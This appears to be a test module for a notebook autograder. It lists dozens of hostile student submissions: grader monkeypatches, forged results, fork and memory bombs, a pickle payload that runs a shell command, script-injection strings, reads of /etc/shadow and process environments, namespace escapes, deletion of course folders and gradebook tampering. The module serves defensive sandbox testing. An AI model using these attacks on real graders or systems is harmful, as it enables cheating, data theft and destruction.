# SPDX-License-Identifier: BSD-3-Clause
# ruff: noqa: E501 (programs of students, as they would write them)
"""Kinds of hostile, broken and odd submissions: what each tries, and what its honest part is worth.

A kind is a function that hands in: it gets a `Desk` and writes into the student's folder. Its code runs as a
student's would, in the answer cells of the assignment `rods`; it knows the paths of everything it should not
see, as an insider would, and it knows how the grader works inside.
"""

import copy
import json
import os
import shutil
import socket
import subprocess
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

AREA = "area = 3.14159265 * p.radius**2"
WAVE = "import numpy as np\nt = np.linspace(0, 10, 201)\nv = 10 * np.exp(-t / p.radius)"
MODEL = (
    "from neuron import n\ndef build(p):\n    rod = n.Section(name='rod')\n"
    "    rod.L, rod.diam = 10 * p.radius, 2 * p.radius\n    return rod"
)
RIGHT = {"area-answer": AREA, "wave-answer": WAVE, "model-answer": MODEL, "why": "Because."}
POINTS = {"area": 4.0, "wave": 3.0, "model": 3.0}
WRONG_MODEL = MODEL.replace("10 * p", "1 * p")
MIME = "application/vnd.neuroscales.handin+json"
MARK = "mark-of-the-intruder"  # whatever is written outside carries it


@dataclass(frozen=True)
class Places:
    """What a student must not see or change; paths as the grader has them.

    Attributes:
        course: the course folder.
        rubrics: the folder with rubrics and solutions.
        home: the grader's home.
        other: another student's submission.
        port: a port of the grader's machine that listens.
    """

    course: str
    rubrics: str
    home: str
    other: str
    port: int


@dataclass(frozen=True)
class Desk:
    """Where one student hands in.

    Attributes:
        folder: the submission's folder, which is there and empty.
        release: the notebook as it was given out.
        student: the owner's id.
        places: what must not be reached.
    """

    folder: Path
    release: NotebookNode
    student: str
    places: Places

    def notebook(self, answers: Mapping[str, str]) -> NotebookNode:
        """The release with these answers, by grade id."""
        notebook = copy.deepcopy(self.release)
        filled = {"student-id": f"student = {self.student!r}", **answers}
        for cell in notebook.cells:
            cell.source = self.fill(filled.get(name_of(cell), cell.source))
        return notebook

    def fill(self, code: str) -> str:
        """The code with the paths that it asks for."""
        words = {f"@{name}@": str(getattr(self.places, name)) for name in Places.__dataclass_fields__}
        for word, value in {**words, "@mark@": MARK, "@mime@": MIME}.items():
            code = code.replace(word, value)
        return code

    def save(self, notebook: NotebookNode | dict, **changes: object) -> None:
        """Hand in a notebook."""
        self.write(json.dumps({**notebook, **changes}).encode())

    def write(self, data: bytes, name: str = "rods.ipynb") -> None:
        """Hand in a file."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


@dataclass(frozen=True)
class Kind:
    """One kind of submission.

    Attributes:
        name: short and stable.
        tried: what it does, in words.
        hand_in: writes it.
        worth: points of its honest part, by task; it earns these and no more.
        ours_alone: whether it attacks what plain nbgrader does not have.
        student: an id of its own, where that is the attack.
    """

    name: str
    tried: str
    hand_in: Callable[[Desk], None]
    worth: Mapping[str, float] = field(default_factory=dict)
    ours_alone: bool = False
    student: str = ""


KINDS: list[Kind] = []


def name_of(cell: NotebookNode) -> str:
    """The cell's grade id, or ""."""
    return cell.metadata.get("nbgrader", {}).get("grade_id", "")


def answers(name: str, tried: str, code: str, *, at: str = "area-answer", **more: object) -> None:
    """A kind whose code stands in one answer cell, before it only right answers count."""
    before = list(RIGHT)[: list(RIGHT).index(at)]
    filled = {cell: RIGHT[cell] for cell in before} | {at: textwrap.dedent(code).strip()}
    worth = {cell.removesuffix("-answer"): POINTS[cell.removesuffix("-answer")] for cell in before}
    more = {"worth": worth, **more}
    KINDS.append(Kind(name, tried, lambda desk: desk.save(desk.notebook(filled)), **more))


def file(name: str, tried: str, **more: object) -> Callable:
    """A kind whose file is written by the function below."""

    def keep(function: Callable[[Desk], None]) -> Callable[[Desk], None]:
        KINDS.append(Kind(name, tried, function, **more))
        return function

    return keep


# --- changing the judgment from inside ----------------------------------------------------------------------

answers(
    "numpy-patched",
    "replaces numpy's comparisons and the built-in abs, so that everything is equal",
    """
    import builtins, math, numpy as np
    builtins.abs = lambda x: 0
    np.abs = np.fabs = lambda x: 0
    np.allclose = np.isclose = np.array_equal = math.isclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    area, t, v = 1.0, [0, 10], [1, 1]
    def build(p): return lambda x: p
    """,
)
answers(
    "equal-to-everything",
    "an answer that says it is equal to, and less than, whatever it is compared with",
    """
    class Any(float):
        __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
        __sub__ = __rsub__ = __abs__ = __mul__ = __rmul__ = __call__ = lambda self, *other: self
        __len__ = lambda self: 201
        def area(self): return self
        __hash__ = float.__hash__
    area = v = Any(1.0)
    t = [0, 10]
    def build(p): return Any(1.0)
    """,
)
answers(
    "assert-removed",
    "an AST transformer that removes every assert, and an input transformer that rewrites later cells",
    """
    import ast
    class Mild(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
    get_ipython().ast_transformers.append(Mild())
    get_ipython().input_transformers_post.append(lambda lines: [l.replace("assert", "0 and") for l in lines])
    area, t, v = 1.0, [0, 10], [1, 1]
    def build(p): return None
    """,
)
answers(
    "results-faked",
    "replaces IPython's run_cell, so that each later cell shows full points and no error",
    """
    shell = type(get_ipython())
    def run_cell(self, raw_cell, *args, **kwargs):
        from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
        self.displayhook.exec_result = None
        print("5.0")
        return ExecutionResult(ExecutionInfo(raw_cell, False, False, False, None))
    shell.run_cell = run_cell
    """,
)
answers(
    "hand-in-patched",
    "replaces hand_in: it hands in every task with points of its own",
    """
    from autograder import handin
    from IPython.display import display
    def hand_in(self, task, **values):
        payload = self._payload(task, self.parameters, {}) | {"points": 100, "score": 100, "passed": True}
        display({"@mime@": payload, "text/plain": "4.0"}, raw=True)
    handin.Work.hand_in = hand_in
    area, t, v, build = 1, 2, 3, 4
    """,
    ours_alone=True,
)
answers(
    "form-check-patched",
    "switches the form check off in its own process, and hands in infinity, text and a program",
    """
    from autograder.handin import form, work as face
    face.check = form.check = lambda task, values: values
    face._try_function = lambda *a: None
    area = "__import__('os').system('touch @course@/@mark@')"
    t, v = [0, 10], [float("inf"), "1"]
    build = "open('@rubrics@/rods/rubric.py').read()"
    """,
    ours_alone=True,
)
answers(
    "json-patched",
    "replaces json.dumps and the messages of the kernel, so that more is sent than was said",
    """
    import json, ipykernel.jsonutil, jupyter_client.session as s
    whole = json.dumps
    def dumps(value, *a, **k): return whole(value, *a, **k).replace('"values"', '"points": 9, "values"')
    json.dumps = dumps
    s.json_packer = lambda obj: dumps(obj).encode()
    get_ipython().kernel.session.pack = s.json_packer
    area = 1.0
    """,
    ours_alone=True,
)
answers(
    "frames-searched",
    "searches all frames and objects of its process for a reference or an expected value",
    """
    import gc, sys
    found = [o for o in gc.get_objects() if isinstance(o, dict) and ("expected" in o or "reference" in o)]
    frame, seen = sys._getframe(), []
    while frame:
        seen += [value for name, value in frame.f_locals.items() if "reference" in name or "expected" in name]
        frame = frame.f_back
    print(str(found)[:2000], str(seen)[:2000])
    area = next((x for x in seen if isinstance(x, float)), 1.0)
    """,
)
answers(
    "trace-hook",
    "a trace function that sets the grader's variables while its cells run",
    """
    import sys, threading
    def trace(frame, event, arg):
        frame.f_globals["area"] = 1.0
        frame.f_locals.update(low=-1e9, high=1e9, tolerance=1e9, expected=1.0, passed=True)
        return trace
    sys.settrace(trace); threading.settrace(trace); sys.setprofile(trace)
    area = 1.0
    """,
)
answers(
    "modules-poisoned",
    "puts modules of its own in the place of libraries that the grader's cells import",
    """
    import sys, types
    class Loose(types.ModuleType):
        def __getattr__(self, name): return lambda *a, **k: True
    mine = ("autograder.handin.form", "autograder.handin.spec")
    for name in ("numpy", "numpy.testing", "math", *mine, "pytest", "unittest"):
        sys.modules[name] = Loose(name)
    area, t, v = 1.0, [0, 10], [1, 1]
    """,
)
answers(
    "cell-swallowed",
    "an open string and cell magics that take the cells after it as text",
    '''
    get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    area = """
    ''',
)
answers("sys-exit", "sys.exit(0) before the graded cells", "import sys; sys.exit(0)")
answers("os-exit", "ends its process with code 0, as if all were done", "import os; os._exit(0)")
answers(
    "late-hooks",
    "atexit, finalizers and threads that show hand-ins of their own while other cells run",
    """
    import atexit, threading, time, weakref
    from IPython.display import display
    def shout(*_):
        payload = {"format": 1, "assignment": "rods", "task": "area", "student": "", "parameters": {"radius": 1}}
        display({"@mime@": payload | {"values": {"area": 3.14}, "points": 4}}, raw=True)
    atexit.register(shout)
    threading.Thread(target=lambda: [(time.sleep(0.01), shout()) for _ in range(300)], daemon=True).start()
    class Last:
        __del__ = shout
    kept = Last()
    area = 1.0
    """,
)

# --- hand-ins that are not what they say --------------------------------------------------------------------

ENVELOPE = (
    "from IPython.display import display\n"
    "envelope = {'format': 1, 'assignment': 'rods', 'task': 'area', 'student': student,\n"
    "            'parameters': {'radius': p.radius}, 'values': {'area': 1.0}}\n"
    "def show(**changes): display({'@mime@': {**envelope, **changes}}, raw=True)\n"
)


def forged(name: str, tried: str, code: str, **more: object) -> None:
    """A kind that shows hand-ins without asking `hand_in`."""
    answers(name, tried, ENVELOPE + textwrap.dedent(code).strip(), ours_alone=True, **more)


forged(
    "forged-points",
    "a hand-in that carries points",
    "show(points=4, max_points=4, score=1.0, verdict='full')",
)
forged(
    "forged-repeated",
    "two thousand hand-ins of one task, each another guess",
    # right ones are among them; neither the last nor the last one taken, 199, is near any student's area
    "for i in (*range(2000), 0): show(values={'area': i})",
)
forged(
    "forged-oversized",
    "a trace of a million samples",
    "show(task='wave', values={'t': list(range(10**6)), 'v': [0.0] * 10**6})",
)
forged(
    "forged-nested",
    "values nested five hundred deep",
    "deep = 1.0\nfor _ in range(500): deep = [deep]\nshow(values={'area': deep})",
)
forged(
    "forged-not-finite",
    "NaN, infinity, an integer of a thousand digits, true and text in the place of numbers",
    "for x in (float('nan'), float('inf'), 10**1000, True, '3', None, [], {}): show(values={'area': x})",
)
forged(
    "forged-no-mapping",
    "a list, a number and nothing in the place of a hand-in",
    "for x in ([], 5, None, 'x'): display({'@mime@': x}, raw=True)",
)
forged(
    "forged-other-task",
    "a task, names and an assignment that do not exist",
    "show(task='bonus'); show(values={'points': 4}); show(assignment='other')",
)
forged(
    "forged-own-parameters",
    "right for a radius that is nobody's, declared as its own",
    "show(parameters={'radius': 1e-3}, values={'area': 3.14159e-6})",
)
forged(
    "forged-someone-else",
    "right for another student's radius, with that student's id",
    """
    other = next(r for r in (2.5, 3, 5, 7) if r != p.radius)
    show(student='other', parameters={'radius': other}, values={'area': 3.14159 * other**2})
    """,
)
forged(
    "forged-pickle",
    "pickles that run a program when they are read, as output and as a value",
    """
    import base64, os, pickle
    class Bomb:
        def __reduce__(self): return os.system, ("touch @course@/@mark@ @home@/@mark@",)
    bomb = base64.b64encode(pickle.dumps(Bomb())).decode()
    display({"application/python-pickle": bomb, "application/x-pickle": bomb}, raw=True)
    show(values={"area": {"py/object": "os.system", "__reduce__": bomb}})
    """,
)
forged(
    "forged-markup",
    "scripts in every text of a hand-in",
    """
    bad = "<script>alert('@mark@')</script><img src=x onerror=alert(1)>"
    show(student=bad); show(task=bad); show(assignment=bad); show(values={bad: bad})
    """,
)
answers(
    "raw-zmq",
    "takes the key from the connection file and speaks on the kernel's own output channel, with doubled keys",
    r"""
    import json, hmac, hashlib
    kernel = get_ipython().kernel
    socket = kernel.iopub_socket
    parent = kernel.get_parent("shell")
    body = '{"data": {"@mime@": {"format": 1, "assignment": "rods", "task": "area", "student": "", ' \
           '"parameters": {"radius": %s}, "values": {"area": 1, "area": NaN}, "points": 4}}, "metadata": {}}' % p.radius
    for kind, content in (("display_data", body), ("display_data", "[" * 100000), ("execute_result", '{"data": 5}'),
                          ("status", '{"execution_state": "idle"}'), ("error", '{"traceback": {"a": []}}'),
                          ("stream", '{"name": ["x"], "text": {"a": 1}}'), ("\ud800", "{}"), ("execute_reply", "{}")):
        header = json.dumps(kernel.session.msg_header("x") | {"msg_type": kind}, default=str)
        parts = [header.encode(), json.dumps(parent["header"], default=str).encode(), b"{}", content.encode()]
        sign = hmac.new(kernel.session.key, digestmod=hashlib.sha256)
        for part in parts: sign.update(part)
        signature = sign.hexdigest().encode()
        socket.send_multipart([b"x", b"<IDS|MSG>", signature, *parts])
        socket.send_multipart([b"x", b"<IDS|MSG>", b"0" * 64, *parts])
        socket.send_multipart([b"x", b"<IDS|MSG>"]); socket.send_multipart([b"", b"\xff" * 100])
    area = 1.0
    """,
    ours_alone=True,
)
answers(
    "protocol-forged",
    "hands in a wrong function, replaces run_protocol, and shows data of its own as the protocol's",
    WRONG_MODEL
    + """
from autograder import handin
from IPython.display import display
def run_protocol(task, source, sets):
    for index in (*range(-1, 5), True, 1e9, "0"):
        for used in (*sets, {"radius": 1}):
            payload = {"format": 1, "assignment": "rods", "task": task, "student": "", "parameters": used}
            payload |= {"values": {"area": 1.0, "points": 3}, "protocol": True, "index": index}
            display({"@mime@": payload}, raw=True)
            display({"@mime@": payload | {"task": "area", "values": {"area": 1.0}}}, raw=True)
handin.run_protocol = run_protocol
""",
    at="model-answer",
    ours_alone=True,
)
answers(
    "protocol-early",
    "shows protocol data from an answer cell, and hands in no function",
    """
    from IPython.display import display
    for index in (0, 1):
        payload = {"format": 1, "assignment": "rods", "task": "model", "student": "", "parameters": {"radius": p.radius}}
        payload |= {"values": {"area": 20 * 3.14159265 * p.radius**2}, "protocol": True, "index": index}
        display({"@mime@": payload}, raw=True)
    build = None
    """,
    at="model-answer",
    ours_alone=True,
)
answers(
    "protocol-endless",
    "a function that answers in the notebook and never returns under the grader's protocol",
    MODEL
    + """
right, calls = build, []
def build(p):
    calls.append(p)
    while len(calls) > 1: pass
    return right(p)
""",
    at="model-answer",
    ours_alone=True,
)

# --- taking more than its share -----------------------------------------------------------------------------

greedy = {"at": "wave-answer"}
answers("endless-loop", "a loop without an end", "while True: pass", **greedy)
answers(
    "endless-stubborn",
    "a loop that swallows interrupts",
    "import time\nwhile True:\n    try: time.sleep(99)\n    except BaseException: pass",
    **greedy,
)
answers(
    "stops-itself",
    "SIGSTOP to its own process",
    "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
    **greedy,
)
answers(
    "fork-bomb",
    "forks without an end",
    "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    **greedy,
)
answers(
    "thread-bomb",
    "starts threads without an end",
    "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(99,)).start()\n    except RuntimeError: pass",
    **greedy,
)
answers(
    "detached-children",
    "children that leave session and group, ignore signals and run on when the notebook is done",
    """
    import os, signal, time
    for _ in range(5):
        if not os.fork():
            os.setsid()
            if not os.fork():
                for number in range(1, 32):
                    try: signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError): pass
                time.sleep(600)
            os._exit(0)
    t, v = [0, 10], [1, 1]
    """,
    **greedy,
)
answers(
    "memory-hog",
    "takes memory without an end",
    "import numpy as np\nkept = []\nwhile True: kept.append(np.ones(2_000_000))",
    **greedy,
)
answers(
    "memory-shared-out",
    "takes memory in eight processes, each below the limit",
    """
    import os, time, numpy as np
    for _ in range(8):
        if not os.fork():
            kept = np.ones(20_000_000); time.sleep(60); os._exit(0)
    time.sleep(5)
    """,
    **greedy,
)
answers(
    "memory-uncounted",
    "memory that counts for no process: memfd, System V segments, a tmpfs in a name space of its own",
    """
    import ctypes, os
    libc, got = ctypes.CDLL(None, use_errno=True), []
    try: got = [os.memfd_create(str(i)) for i in range(20)]
    except OSError as error: print("memfd", error.strerror)
    for fd in got: os.posix_fallocate(fd, 0, 20_000_000)
    if libc.shmget(0, 50_000_000, 0o1600) < 0: print("shmget", os.strerror(ctypes.get_errno()))
    if libc.unshare(0x10020000) < 0: print("unshare", os.strerror(ctypes.get_errno()))
    else: print("mount", libc.mount(b"x", b"/tmp", b"tmpfs", 0, b"size=9g"))
    t, v = [0, 10], [1, 1]
    """,
    **greedy,
)
answers(
    "disk-filler",
    "fills every folder that it may write to",
    """
    import itertools, os
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "@home@", "@course@"):
        try:
            for i in itertools.count():
                with open(f"{folder}/@mark@{i}", "wb") as f: f.write(bytes(10_000_000))
                if i > 60: break
        except OSError as error: print(folder, error.strerror)
    t, v = [0, 10], [1, 1]
    """,
    **greedy,
)
answers("output-flood", "prints without an end", "while True: print('x' * 10_000)", **greedy)
answers("output-one-message", "one message of 50 MB", "print('x' * 50_000_000)", **greedy)
answers(
    "output-many-messages",
    "three hundred thousand small displays",
    "from IPython.display import display\nfor i in range(300_000): display(i)",
    **greedy,
)
answers(
    "picture-bomb",
    "a picture of a few bytes that unpacks to gigabytes, and one with a script behind its end",
    """
    import base64, struct, zlib
    from IPython.display import display
    def chunk(kind, body): return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    for side in (60_000, 8_000, 8):
        rows = zlib.compressobj(); data = b"".join(rows.compress(bytes(1_000_000)) for _ in range(60)) + rows.flush()
        png = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
        png += chunk(b"tEXt", b"Comment\\0<script>@mark@</script>") + chunk(b"IDAT", data) + chunk(b"IEND", b"")
        display({"image/png": base64.b64encode(png + b"<script>@mark@</script>").decode()}, raw=True)
    t, v = [0, 10], [1, 1]
    """,
    **greedy,
)
answers(
    "open-files",
    "opens files without an end",
    "kept = []\nwhile True: kept.append(open('/dev/null'))",
    **greedy,
)
answers(
    "recursion",
    "recursion without an end, in Python and on the C stack",
    "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()",
    **greedy,
)
answers("segfault", "reads address zero", "import ctypes; ctypes.string_at(0)", **greedy)
answers(
    "kill-all",
    "kills every process it may, its parent first",
    "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError as error: print(error)",
    **greedy,
)
answers("asks-for-input", "waits for somebody to type", "input('go on?')\nt, v = [0, 10], [1, 1]", **greedy)
answers(
    "never-ends-well",
    "a finalizer that sleeps for ever when the kernel shuts down",
    "import atexit, time\natexit.register(time.sleep, 600)\nt, v = [0, 10], [1, 1]",
    **greedy,
)

# --- looking and reaching where it must not -----------------------------------------------------------------

LOOK = """
import base64, os, subprocess, time
until = time.monotonic() + 4
def tell(data):
    data = data if isinstance(data, bytes) else data.encode()
    print(data[:20000].decode("latin-1")); print(base64.b64encode(data[:20000])); print(data[:20000].hex())
def look(path):
    try:
        if os.path.isdir(path):
            for name in sorted(os.listdir(path))[:300]:
                if time.monotonic() < until and name not in ("lib", "bin", "venv", ".venv", ".pyenv", "site-packages"): look(path + "/" + name)
        else:
            with open(path, "rb") as f: tell(f.read(200_000))
    except OSError: pass
"""


def spying(name: str, tried: str, code: str, **more: object) -> None:
    """A kind that tells all it can find, in several spellings, and answers with a guess."""
    answers(name, tried, LOOK + textwrap.dedent(code).strip() + "\narea = 1.0", **more)


spying(
    "reads-course",
    "reads solution, rubric, key, gradebook and another student's work by their paths",
    "for path in ('@rubrics@', '@course@', '@other@', '../..', '../../../..'): look(path)",
)
spying(
    "reads-home",
    "reads the grader's home, its settings and keys",
    "for path in ('@home@', os.path.expanduser('~'), '/root', '/home', '/etc/shadow'): look(path)",
)
spying(
    "reads-environment",
    "prints its environment and that of every process",
    "tell(str(dict(os.environ)))\nfor pid in os.listdir('/proc'):\n    look(f'/proc/{pid}/environ')",
)
spying(
    "reads-processes",
    "walks through other processes' folders, open files and memory",
    """
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for place in ("root@course@", "root@home@", "cwd", "fd"): look(f"/proc/{pid}/{place}")
        tell(str([os.system(f"cat /proc/{pid}/{name} 2>/dev/null | head -c 3000") for name in ("maps", "cmdline")]))
    """,
)
spying(
    "reads-parent-memory",
    "attaches to the process that started it",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {1, os.getppid()} - {os.getpid()}:
        print(libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
        look(f"/proc/{pid}/mem")
    """,
)
spying(
    "network",
    "calls out: TCP to the grader's own machine and to others, UDP, name service, abstract sockets",
    """
    import socket
    for address in (("127.0.0.1", @port@), ("::1", @port@), ("10.0.2.2", @port@), ("192.0.2.1", 80)):
        try:
            with socket.create_connection(address, timeout=0.5) as s: s.sendall(b"@mark@"); tell(s.recv(1000))
        except OSError as error: print(error)
    try: socket.getaddrinfo("example.org", 80)
    except OSError as error: print(error)
    if os.path.exists("/proc/net/unix"): tell(open("/proc/net/unix").read())
    """,
)
spying(
    "user-namespace",
    "makes a user namespace of its own to be root there, mounts and looks again",
    """
    for tool in ("unshare -Urm --propagation private sh -c 'id; mount -t tmpfs x /tmp; ls @course@ @home@'",
                 "bwrap --dev-bind / / sh -c id", "nsenter -t 1 -a id", "chroot / id", "su -c id", "sudo -n id"):
        print(subprocess.run(tool, shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL))
    """,
)
spying(
    "writes-outside",
    "writes into course, home, libraries, the cache of mechanisms and the release",
    """
    import sys, numpy, autograder, mechanisms
    homes = ["@course@", "@rubrics@/rods", "@home@", "@other@", "/", "/usr/lib", "/etc", "/opt/neuroscales", "../../../.."]
    homes += [os.path.dirname(m.__file__) for m in (os, numpy, autograder, mechanisms)] + sys.path
    for folder in homes:
        for name in ("@mark@", "sitecustomize.py", "rods.ipynb", "gradebook.db"):
            try:
                with open(os.path.join(folder, name), "a") as f: f.write("# @mark@"); print("written", f.name)
            except OSError: pass
    """,
)
spying(
    "deletes-outside",
    "removes what it can reach: course, other students, home",
    "import shutil\nfor path in ('@course@', '@rubrics@', '@other@', '@home@/.private', '../../..'): shutil.rmtree(path, ignore_errors=True)",
)
spying(
    "rewrites-handin-json",
    "writes another handin.json, with tasks worth nothing, before it is read again",
    """
    import json
    spec = json.load(open("handin.json")) if os.path.exists("handin.json") else {"parameters": [{}], "tasks": {}}
    spec["parameters"][0]["values"], spec["key"] = [1e-9], "mine"
    spec["tasks"]["area"] = {"items": [{"name": "area", "kind": "number", "unit": "um2"}]}
    try: json.dump(spec, open("handin.json", "w"))
    except OSError as error:
        print(error)
        try: os.rename("handin.json", "old"); json.dump(spec, open("handin.json", "w"))
        except OSError as error: print(error)
    from autograder import handin
    work = handin.start("handin.json", student=student); p = work.parameters
    """,
    ours_alone=True,
)
spying(
    "changes-others-marks",
    "writes points for everyone into the gradebook and into the marks",
    """
    import glob, sqlite3
    for path in ("@course@/gradebook.db", "../../../gradebook.db", "../../../../gradebook.db"):
        try:
            with sqlite3.connect(path) as db: db.execute("update grade set manual_score = 0.25")
        except sqlite3.Error as error: print(error)
    for path in glob.glob("@course@/marks/*/*.json"): open(path, "w").write("{}")
    """,
)

# --- files that are no notebooks, and files beside them -----------------------------------------------------


@file("link-to-another", "a symbolic link to another student's notebook")
def _(desk: Desk) -> None:
    (desk.folder / "rods.ipynb").symlink_to(desk.places.other + "/rods.ipynb")


@file("linked-folder", "a symbolic link in the place of the whole folder")
def _(desk: Desk) -> None:
    desk.folder.rmdir()
    desk.folder.symlink_to(desk.places.other)


@file("pipe", "a FIFO, on which a reader would wait for ever")
def _(desk: Desk) -> None:
    os.mkfifo(desk.folder / "rods.ipynb")


@file("device", "a device or a socket in the place of the notebook")
def _(desk: Desk) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        here = Path.cwd()
        os.chdir(desk.folder)  # a socket's path must be short
        try:
            made.bind("rods.ipynb")
        finally:
            os.chdir(here)


@file("folder", "a folder named like the notebook")
def _(desk: Desk) -> None:
    (desk.folder / "rods.ipynb").mkdir()


@file("gigabytes", "a notebook of three gigabytes that takes no room on the disk")
def _(desk: Desk) -> None:
    with (desk.folder / "rods.ipynb").open("wb") as made:
        made.truncate(3_000_000_000)


@file("nothing", "a folder without a notebook")
def _(desk: Desk) -> None:
    desk.write(b"see my e-mail", "README.txt")


def data(name: str, tried: str, content: bytes) -> None:
    """A kind that is only bytes."""
    KINDS.append(Kind(name, tried, lambda desk: desk.write(content)))


data("empty", "an empty file", b"")
data(
    "cut-off",
    "a notebook that ends in its middle",
    b'{"nbformat": 4, "nbformat_minor": 5, "cells": [{"cell_ty',
)
data("utf-16", "a notebook in UTF-16", json.dumps(nbformat.v4.new_notebook()).encode("utf-16"))
data("latin-1", "a notebook in Latin-1", b'{"nbformat": 4, "cells": [], "metadata": {"a": "\xe9"}}')
data("nested-json", "brackets a hundred thousand deep", b"[" * 100_000)
data("many-parts", "six million empty objects", b"[" + b"{}," * 6_000_000 + b"0]")
data("long-number", "a number of a million digits", b'{"nbformat": ' + b"4" * 1_000_000 + b"}")
data("no-notebook", "JSON that is no notebook", b'{"nbformat": 4, "nbformat_minor": "5", "cells": {"a": 1}}')
data("future-format", "a notebook of a version that does not exist", b'{"nbformat": 9, "cells": []}')
data("zip-as-notebook", "a zip that is called a notebook", b"PK\x03\x04" + bytes(500))


@file(
    "libraries-beside",
    "modules beside the notebook that shadow numpy, json, neuron, the hand-in and Python's start",
)
def _(desk: Desk) -> None:
    code = desk.fill(
        "open('@course@/@mark@', 'w'); __getattr__ = lambda name: (lambda *a, **k: True)\n"
    ).encode()
    for name in ("numpy", "json", "math", "neuron", "nbgrader", "IPython", "sitecustomize", "usercustomize"):
        desk.write(code, f"{name}.py")
    for package in ("autograder", "neuroscales", "mechanisms", "matplotlib"):
        desk.write(code, f"{package}/__init__.py")
    desk.write(b"import sitecustomize\n", "evil.pth")
    desk.save(desk.notebook({"area-answer": "area = 1.0"}))


@file("settings-beside", "settings of IPython, Jupyter, nbgrader and pytest beside the notebook")
def _(desk: Desk) -> None:
    code = desk.fill(
        "import os\ntry: open('@course@/@mark@', 'w')\nexcept OSError: pass\n"
        "c = get_config()\nc.InteractiveShellApp.exec_lines = ['area = 1']\nc.Execute.enabled = False\n"
        "c.ClearSolutions.enforce_metadata = False\nc.OverwriteCells.enabled = False\n"
    ).encode()
    for name in ("ipython_config", "ipython_kernel_config", "jupyter_config", "nbgrader_config", "conftest"):
        desk.write(code, f"{name}.py")
    desk.write(code, ".ipython/profile_default/startup/00.py")
    desk.write(b'{"ServerApp": {"token": ""}}', ".jupyter/jupyter_config.json")
    desk.save(desk.notebook({"area-answer": "area = 1.0"}))


@file(
    "x86_64-folder",
    "compiled NEURON mechanisms beside the notebook, whose constructor writes into the course",
)
def _(desk: Desk) -> None:
    desk.save(desk.notebook({"area-answer": AREA, "model-answer": "from neuron import n\n" + WRONG_MODEL}))
    compiler = shutil.which("cc")
    library = desk.folder / "x86_64/libnrnmech.so"
    library.parent.mkdir()
    library.write_bytes(b"\x7fELF")
    if compiler:
        source = desk.folder / "x86_64/evil.c"
        source.write_text(
            desk.fill(
                "#include <stdio.h>\n__attribute__((constructor)) static void start(void)"
                '{fclose(fopen("@course@/@mark@", "w"));}\nvoid modl_reg(void){}\n'
            )
        )
        subprocess.run([compiler, "-shared", "-fPIC", "-o", library, source], check=True, timeout=60)
    for name in ("special", "nrnmech.dll", ".libs/libnrnmech.so"):
        desk.write(library.read_bytes(), f"x86_64/{name}")


KINDS[-1] = Kind(**{**KINDS[-1].__dict__, "worth": {"area": 4.0}})


@file("own-handin-json", "a handin.json of its own, and a timestamp from last year", worth={})
def _(desk: Desk) -> None:
    desk.write(
        b'{"format": 1, "assignment": "rods", "key": "x", "parameters": [], "tasks": {}}', "handin.json"
    )
    (desk.folder / "timestamp.txt").symlink_to(desk.places.home + "/.private/secret.txt")
    desk.save(desk.notebook({"area-answer": "area = 1.0"}))


# --- notebooks that are not the one given out ---------------------------------------------------------------

Change = Callable[[NotebookNode], object]
GUESS = {"area-answer": "area = 1.0"}


def changed(
    name: str, tried: str, given: Mapping[str, str] = GUESS, **more: object
) -> Callable[[Change], Change]:
    """A kind whose notebook, with a guess or these answers in it, is changed by the function below."""

    def keep(change: Change) -> Change:
        def hand_in(desk: Desk) -> None:
            notebook = desk.notebook(given)
            change(notebook)
            desk.save(notebook)

        KINDS.append(Kind(name, tried, hand_in, **more))
        return change

    return keep


def about(notebook: NotebookNode) -> list[dict]:
    """nbgrader's metadata, cell by cell."""
    return [cell.metadata["nbgrader"] for cell in notebook.cells if name_of(cell)]


def tests(notebook: NotebookNode) -> list[NotebookNode]:
    """The cells that are graded and not the student's."""
    marks = [(cell, cell.metadata.get("nbgrader", {})) for cell in notebook.cells]
    return [cell for cell, mark in marks if mark.get("grade") and not mark.get("solution")]


def full_points() -> list[NotebookNode]:
    """Outputs that say so."""
    number = new_output("execute_result", {"text/plain": "4.0"}, execution_count=1)
    return [number, new_output("display_data", {MIME: {"points": 4}})]


@changed("points-changed", "a thousand points for every task")
def _(notebook: NotebookNode) -> None:
    for one in about(notebook):
        one["points"] = 1000


@changed("ids-swapped", "the graded cells' ids given to cells that pass")
def _(notebook: NotebookNode) -> None:
    swapped = {"area": "start", "start": "area"}
    for one in about(notebook):
        one["grade_id"] = swapped.get(one["grade_id"], one["grade_id"])


@changed("skip-execution", "the tag skip-execution on every cell, so that no test runs")
def _(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]


@changed("order-reversed", "all cells in the opposite order")
def _(notebook: NotebookNode) -> None:
    notebook.cells.reverse()


@changed("tests-as-text", "the graded cells turned into text")
def _(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        cell.cell_type = "raw"
        del cell["outputs"], cell["execution_count"]


@changed("tests-removed", "the graded cells taken out")
def _(notebook: NotebookNode) -> None:
    for cell in tests(notebook):
        notebook.cells.remove(cell)


